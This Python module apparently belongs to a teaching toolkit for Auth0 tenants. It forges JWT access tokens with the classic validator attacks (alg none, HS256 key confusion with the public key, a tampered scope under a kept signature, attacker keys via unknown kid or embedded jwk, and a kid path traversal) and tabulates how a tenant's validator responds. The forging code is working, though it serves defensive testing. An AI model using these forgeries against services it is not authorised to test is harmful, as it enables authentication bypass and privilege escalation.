"""Forged tokens for the keys-and-forgeries lesson: the classic attacks on JWT validators.

Each forgery starts from a genuine access token and the tenant's published keys — what any
attacker holding one token can see — so the lesson runs on the sandbox and on your own tenant
alike: no private key of the tenant is needed (or used). `try_forgeries` hands each one to the
tenant's validator and lists what it said. Forged tokens are `Secret`s: shown only as
fingerprints, like every token.

The attacks (RFC 8725 §2-3; token-validation.md): `alg: none`; HS256 signed with the tenant's
public key as the HMAC secret (key confusion); a payload changed under a genuine signature;
the attacker's own key under an unknown `kid`, or shipped in the header (`jwk`); a `kid` that
walks a file path.
"""

from __future__ import annotations

import base64
import hashlib
import hmac
import json
from dataclasses import dataclass
from typing import Any, Final

import pandas as pd
from cryptography.hazmat.primitives import hashes, serialization
from cryptography.hazmat.primitives.asymmetric import padding, rsa
from jwt.algorithms import RSAAlgorithm

from auth0_explore.client.results import TokenResult
from auth0_explore.client.tenant import Tenant
from auth0_explore.errors import Auth0ExploreError, ConfigError
from auth0_explore.secrets import Secret
from auth0_explore.tokens import Expectations, decode_unverified

__all__ = ["Forgery", "forge", "tamper", "try_forgeries"]

_ATTACKER_KID: Final = "attacker-key-1"
_TRAVERSAL_KID: Final = "../../../../../../dev/null"


@dataclass(frozen=True)
class Forgery:
    """One forged token: its name, what it tries, and the token itself (masked)."""

    name: str
    attack: str
    token: Secret

    @property
    def claims(self) -> dict[str, Any]:
        """The forged payload, decoded without any check (which is all decoding is)."""
        return dict(decode_unverified(self.token.reveal()))

    @property
    def header(self) -> dict[str, Any]:
        """The forged header."""
        return dict(json.loads(_unb64(self.token.reveal().split(".", 1)[0])))

    def reveal(self) -> str:
        """The forged compact token, to hand to a validator."""
        return self.token.reveal()

    def __repr__(self) -> str:
        return f"Forgery({self.name!r}, {self.token!r})"


def tamper(genuine: TokenResult, changes: dict[str, Any]) -> Forgery:
    """The genuine token with claims changed (or added) and its signature kept."""
    header, _, signature = genuine.reveal().split(".")
    claims = {**decode_unverified(genuine.reveal()), **changes}
    token = f"{header}.{_b64(_json(claims))}.{signature}"
    changed = ", ".join(sorted(changes))
    return Forgery(
        "payload changed", f"change {changed} and keep the genuine signature", Secret(token)
    )


def forge(genuine: TokenResult, jwk: dict[str, Any]) -> list[Forgery]:
    """The classic forgeries of `genuine`, using only the public key `jwk` that signed it.

    Args:
        genuine: a genuine access token (a JWS) of the tenant.
        jwk: the published JWK of its signing key (`tenant.jwks().key(kid)`).
    """
    raw = genuine.reveal()
    if raw.count(".") != 2 or not raw.startswith("eyJ"):
        raise ConfigError("forgeries start from a signed JWT access token: ask for an API")
    header = json.loads(_unb64(raw.split(".", 1)[0]))
    payload = raw.split(".")[1]
    attacker = rsa.generate_private_key(public_exponent=65537, key_size=2048)
    attacker_jwk = json.loads(RSAAlgorithm.to_jwk(attacker.public_key()))
    public_pem = RSAAlgorithm.from_jwk(json.dumps(jwk)).public_bytes(  # type: ignore[union-attr]  # an RSA JWK gives an RSA public key
        serialization.Encoding.PEM, serialization.PublicFormat.SubjectPublicKeyInfo
    )
    scope = f"{decode_unverified(raw).get('scope', '')} delete:everything".strip()
    return [
        _signed("alg: none", "drop the signature and declare that none is needed",
                {"alg": "none", "typ": "JWT"}, payload, None),
        _signed("HS256 with the public key", "sign with HS256, the tenant's public key as "
                "the HMAC secret (key confusion)", {**header, "alg": "HS256"}, payload,
                lambda data: hmac.new(public_pem, data, hashlib.sha256).digest()),
        tamper(genuine, {"scope": scope}),
        _signed("attacker's key, unknown kid", "sign with the attacker's own RSA key under a "
                "kid the tenant never published", {**header, "kid": _ATTACKER_KID}, payload,
                lambda data: _rs256(attacker, data)),
        _signed("attacker's key in the header", "ship the attacker's public key in the header "
                "(jwk) and sign with it, under the genuine kid",
                {**header, "jwk": attacker_jwk}, payload, lambda data: _rs256(attacker, data)),
        _signed("kid path traversal", "point the kid at an empty file and sign with an empty "
                "HMAC secret", {"alg": "HS256", "typ": "JWT", "kid": _TRAVERSAL_KID}, payload,
                lambda data: hmac.new(b"", data, hashlib.sha256).digest()),
    ]  # fmt: skip


def try_forgeries(
    tenant: Tenant, forgeries: list[Forgery], expectations: Expectations
) -> pd.DataFrame:
    """What the validator says about each forgery, with the tenant's keys and `expectations`
    (the API's policy): one row each, with the first failing check and its explanation
    (`valid` True would be a hole in the validator)."""
    rows: list[tuple[str, str, bool, str | None, str, str]] = []
    for forgery in forgeries:
        try:
            report = tenant.validate(forgery.reveal(), expectations)
        except Auth0ExploreError as error:  # no key set to be had at all
            rows.append((forgery.name, forgery.attack, False, type(error).__name__, "", str(error)))
            continue
        failed = report.failures[0] if report.failures else None
        check, why = (failed.name, failed.explanation) if failed else ("", "")
        rows.append((forgery.name, forgery.attack, report.valid, report.reason or None, check, why))
    columns = ["forgery", "attack", "valid", "reason", "check", "why refused"]
    return pd.DataFrame(rows, columns=columns)


def _signed(name: str, attack: str, header: dict[str, Any], payload: str, sign: Any) -> Forgery:
    signing_input = f"{_b64(_json(header))}.{payload}"
    signature = _b64(sign(signing_input.encode("ascii"))) if sign is not None else ""
    return Forgery(name, attack, Secret(f"{signing_input}.{signature}"))


def _rs256(key: rsa.RSAPrivateKey, data: bytes) -> bytes:
    return key.sign(data, padding.PKCS1v15(), hashes.SHA256())


def _json(value: dict[str, Any]) -> bytes:
    return json.dumps(value, separators=(",", ":")).encode()


def _b64(data: bytes) -> str:
    return base64.urlsafe_b64encode(data).rstrip(b"=").decode("ascii")


def _unb64(text: str) -> bytes:
    return base64.urlsafe_b64decode(text + "=" * (-len(text) % 4))
